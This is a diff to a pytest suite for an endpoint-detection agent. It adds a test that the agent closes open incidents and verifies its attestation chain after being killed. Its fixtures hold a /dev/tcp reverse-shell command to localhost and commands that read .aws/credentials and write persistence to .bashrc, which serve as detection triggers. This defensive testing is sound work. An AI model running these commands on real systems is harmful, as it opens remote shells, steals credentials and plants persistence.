@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import os
 import re
+import signal
 import socket
 import subprocess
 import sys
@@ -16,6 +18,8 @@ import pytest
 from guard.harness import PROGRAM
 from live.account import Account
 from live.agent import LiveAgent, live_agent
+from nbsentinel.attest import canonical
+from nbsentinel.attest.verify import verify_genesis, verify_next
 from nbsentinel_guard import abi
 
 pytestmark = [
@@ -26,7 +30,7 @@ Event = dict[str, Any]
 SHELL = "exec 3<>/dev/tcp/127.0.0.1/{port}; exec sh <&3 >&3 2>&3"
 ORDERS = b"sleep 0.3\ncat .aws/credentials >/dev/null\nsleep 0.3\necho true >> .bashrc\nsleep 0.3\nexit\n"
 STEPS = {"reverse_shell_direct", "credential_read_by_foreign_program", "persistence_shell"}
-CREATE, UPDATE = 1, 2
+CREATE, UPDATE, CLOSE = 1, 2, 3
 
 
 @pytest.fixture(scope="module")
@@ -139,3 +143,32 @@ def test_heartbeats_say_what_was_held_back(account: Account, folder: Path, agent
     totals = status["held_back"]["totals"]
     assert totals["grouped"] == status["counters"]["grouped"]
     assert len(status["held_back"]["rules"]) == status["held_back"]["rule_count"]
+
+
+def test_an_agent_closes_what_the_one_before_left_open(account: Account, folder: Path, agent: LiveAgent) -> None:
+    """After kill -9 the next agent closes each open incident once, with what was known of it; the report verifies."""
+    home = folder / "agent"
+    shell = attack(account, home, b"sleep 0.3\nexit\n")
+    wait_for(lambda: "reverse_shell_direct" in rules(about(agent, shell)))
+    before = findings(agent)
+    running = {event["finding_info"]["uid"] for event in before if event["activity_id"] != CLOSE}
+    old = agent.status()["pid"]
+    os.kill(old, signal.SIGKILL)
+
+    def closed() -> list[Event]:
+        return [event for event in findings(agent) if event["activity_id"] == CLOSE]
+
+    wait_for(lambda: {event["finding_info"]["uid"] for event in closed()} >= running)
+    over = closed()
+    assert len(over) == len({event["finding_info"]["uid"] for event in over})
+    (one,) = (event for event in over if event["finding_info"]["uid"] == about(agent, shell)[0]["finding_info"]["uid"])
+    assert "started again" in one["status_detail"]
+    assert one["severity_id"] == max(event["severity_id"] for event in about(agent, shell))
+    assert one["metadata"]["uid"] not in {event["metadata"]["uid"] for event in before}
+    assert one["is_alert"] is False
+    chain = one["attestation_list"][0]["chain_uid"]
+    lines = [line for line in (home / "report.ndjson").read_bytes().splitlines() if chain.encode() in line]
+    mine = [line for line in lines if canonical.decode(line)["attestation_list"][0]["chain_uid"] == chain]
+    state = verify_genesis(mine[0]).state
+    for line in mine[1:]:
+        state = verify_next(line, state).state
